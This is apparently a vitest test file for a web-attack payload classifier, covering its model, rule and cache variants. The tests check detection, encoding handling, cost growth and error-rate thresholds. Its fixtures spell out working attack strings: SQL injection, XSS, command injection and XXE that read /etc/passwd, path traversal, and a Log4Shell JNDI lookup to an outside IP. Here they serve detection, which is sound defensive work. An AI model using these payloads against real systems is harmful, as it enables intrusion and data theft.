// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold such text literally.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout } from "node:timers/promises";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { SentinelError } from "../../../../shared/errors.ts";
import { places } from "../../../../shared/payload.ts";
import type { PayloadClassifier } from "../payload.ts";
import { createCachedClassifier } from "./cached-classifier.ts";
import { checkGrowth, checkValue, faultsOf, growingStems, hardValues } from "./classifier-conformance.ts";
import { readModel, setsAt } from "./model-file.ts";
import { loadClassifier } from "./payload-model.ts";
import { createRuleClassifier } from "./rules.ts";

const bytes = readFileSync(join(import.meta.dirname, "../../../../resources/model/payload.bin"));
const model = loadClassifier(bytes);
const classifiers = [
  { name: "model", classifier: model },
  { name: "rules", classifier: createRuleClassifier() },
  { name: "cached rules", classifier: createCachedClassifier(createRuleClassifier(), { longest: 100 }) },
];

describe.each(classifiers)("$name keeps what a payload classifier promises", ({ classifier }) => {
  test.each(hardValues)(
    "$why",
    (value) => {
      expect(checkValue(classifier, value)).toEqual([]);
    },
    60_000,
  );

  test("any text in any place", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 600 }), fc.constantFrom(...places), (text, place) => {
        expect(faultsOf(classifier.classify(text, { place }), text)).toEqual([]);
      }),
      { numRuns: 25 * Number(process.env.TORTURE ?? 1), seed: 7 },
    );
  }, 60_000);
});

describe.each([
  { name: "the model", classifier: model },
  { name: "the rules", classifier: createRuleClassifier() },
])("what a long value costs grows with its length alone", ({ name, classifier }) => {
  test.each(growingStems)(`${name}: %j`, (stem) => expect(checkGrowth(classifier, stem)).toEqual([]));
});

test("a classifier whose cost grows with the square of the length is found", () => {
  const quadratic: PayloadClassifier = {
    ...model,
    score(text) {
      let sum = 0;
      for (let i = 0; i < text.length ** 2 / 50; i++) sum += i % 7;
      return model.score(String(sum));
    },
  };
  expect(checkGrowth(quadratic, "a")).toEqual([expect.stringMatching(/^eight times the length costs/)]);
});

const must = [
  { text: "1' union select null,version()-- -", class: "sql_injection", family: null },
  { text: '{"$ne": null}', class: "sql_injection", family: "nosql_injection" },
  { text: '"><svg onload=alert(1)>', class: "xss", family: null },
  { text: "127.0.0.1; cat /etc/passwd", class: "command_injection", family: null },
  { text: "../../../../etc/passwd", class: "path_traversal", family: null },
  { text: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', class: "xxe", family: null },
  { text: "${jndi:ldap://198.51.100.7/a}", class: "command_injection", family: "log4shell" },
];

describe.each(classifiers)("$name", ({ classifier }) => {
  test.each(must)("flags $text", ({ text, class: name, family }) => {
    const plain = classifier.classify(text, { place: "query" });
    expect(plain).toMatchObject({ class: name, family });
    expect(plain.confidence).toBeGreaterThan(0.8);
    expect(plain.spans.length).toBeGreaterThan(0);
    const encoded = encodeURIComponent(text);
    const output = classifier.classify(encoded, { place: "query" });
    expect(output.class).toBe(name);
    expect(faultsOf(output, encoded)).toEqual([]);
  });

  test.each([
    "Maria O'Neill",
    "rock 'n' roll",
    "https://example.com/path?q=1&lang=en",
    "Please select a seat from the list and update your order.",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "550e8400-e29b-41d4-a716-446655440000",
    "<p>Hello <strong>world</strong></p>",
    "東京都渋谷区",
    "",
  ])("does not flag %s", (text) => {
    expect(classifier.score(text, { place: "form" }).class).toBe("benign");
  });
});

test("an attack within 128 KB of prose is found, and the spans point at it", () => {
  const prose = "The quick brown fox jumps over the lazy dog and runs away. ".repeat(1100);
  const attack = "1' union select username,password from users-- -";
  const output = model.classify(prose + attack + prose, { place: "form" });
  expect(output.class).toBe("sql_injection");
  expect(output.spans[0]!.start).toBeGreaterThanOrEqual(prose.length - 10);
  expect(output.spans[0]!.end).toBeLessThanOrEqual(prose.length + attack.length + 16);
});

test("spans of an encoded attack are offsets in the value as given", () => {
  const text = "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
  const [span] = model.classify(text).spans;
  expect(text.slice(span!.start, span!.end)).toContain("script");
});

test("a smaller error rate rules out less, and a rate that the file does not know leaves it at its own", () => {
  const rates = [0.01, 0.02, 0.05, 0.1, 0.2];
  const at = rates.map((rate) => loadClassifier(bytes, rate));
  const texts = [
    "1' union select null--",
    "<svg/onload=alert(1)>",
    "green tea",
    "a' b",
    "1' or id",
    "x; ls",
    "select 1",
  ];
  let narrower = 0;
  for (const text of texts) {
    const sets = at.map((classifier) => classifier.score(text).set);
    for (const [i, set] of sets.entries()) {
      if (i > 0) expect(sets[i - 1]).toEqual(expect.arrayContaining([...set]));
      if (i > 0 && set.length < sets[i - 1]!.length) narrower++;
    }
    expect(sets[2]).toEqual(model.score(text).set);
    expect(loadClassifier(bytes, 0.3).score(text).set).toEqual(model.score(text).set);
  }
  expect(narrower).toBeGreaterThan(2);
});

test("at no class a smaller error rate asks for more, even where few rows set the thresholds", () => {
  const { header } = readModel(bytes);
  const rates = [0.01, 0.02, 0.05, 0.1, 0.2];
  const crossed = { ...header, other_set_thresholds: header.other_set_thresholds!.toReversed() };
  crossed.other_set_thresholds = crossed.other_set_thresholds.map(({ error_rate, thresholds }) => ({
    error_rate,
    // Rate by rate, as few rows may have it.
    thresholds: thresholds.map((at, c) => (c % 2 === 0 ? 1 - at : at)),
  }));
  for (const each of [header, crossed]) {
    const at = rates.map((rate) => setsAt(each, rate));
    expect(at.map(({ errorRate }) => errorRate)).toEqual(rates);
    expect(at[2]!.thresholds).toEqual(header.set_thresholds);
    for (let i = 1; i < at.length; i++)
      for (const [c, threshold] of at[i]!.thresholds.entries())
        expect(at[i - 1]!.thresholds[c]).toBeLessThanOrEqual(threshold);
  }
});

test("the cache answers again without asking, counts, and forgets what was asked for longest ago", () => {
  const { asked, counting } = countCalls();
  const looked: string[] = [];
  const cached = createCachedClassifier(counting, { entries: 2, onLookup: (status) => looked.push(status) });
  expect(cached.score("a")).toBe(cached.score("a"));
  cached.score("b");
  cached.score("a");
  cached.score("c");
  cached.score("a");
  cached.score("b");
  expect(asked).toEqual(["read a", "read b", "read c", "read b"]);
  expect(looked).toEqual(["miss", "hit", "miss", "hit", "miss", "hit", "miss"]);
});

test("the cache forgets after its time", async () => {
  const { asked, counting } = countCalls();
  const cached = createCachedClassifier(counting, { ttlMs: 5 });
  cached.score("a");
  cached.score("a");
  await setTimeout(150);
  cached.score("a");
  expect(asked).toEqual(["read a", "read a"]);
});

test("a text is read once for all places that read alike, and judged in each as if it were read anew", () => {
  const { asked, counting } = countCalls();
  const text = "1' or sleep(5)+--";
  const cached = createCachedClassifier(counting);
  for (const place of [undefined, ...places]) {
    const context = place === undefined ? undefined : { place };
    expect(cached.score(text, context)).toEqual(model.score(text, context));
    expect(cached.classify(text, context)).toEqual(model.classify(text, context));
  }
  expect(asked.filter((call) => call.startsWith("read"))).toHaveLength(4);

  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 400 }), (any) => {
      const fresh = createCachedClassifier(model);
      for (const place of places) expect(fresh.score(any, { place })).toEqual(model.score(any, { place }));
    }),
    { numRuns: 15 * Number(process.env.TORTURE ?? 1), seed: 11 },
  );
});

/** The model, with a list of what it was asked to read or score. */
function countCalls() {
  const asked: string[] = [];
  const counting: PayloadClassifier = {
    ...model,
    score(text, context) {
      asked.push(`score ${text}`);
      return model.score(text, context);
    },
    read(text, context) {
      asked.push(`read ${text}`);
      return model.read!(text, context);
    },
  };
  return { asked, counting };
}

test.each([
  { why: "another file", damage: () => Buffer.from("not a model") },
  { why: "a cut file", damage: () => bytes.subarray(0, bytes.length - 1) },
  { why: "one flipped bit", damage: () => flip(bytes, bytes.length - 1000) },
  { why: "a changed header", damage: () => flip(bytes, 14) },
])("refuses $why", ({ damage }) => {
  expect(() => loadClassifier(damage())).toThrowError(SentinelError);
});

function flip(original: Buffer, at: number): Buffer {
  const copy = Buffer.from(original);
  copy[at] = copy[at]! ^ 1;
  return copy;
}
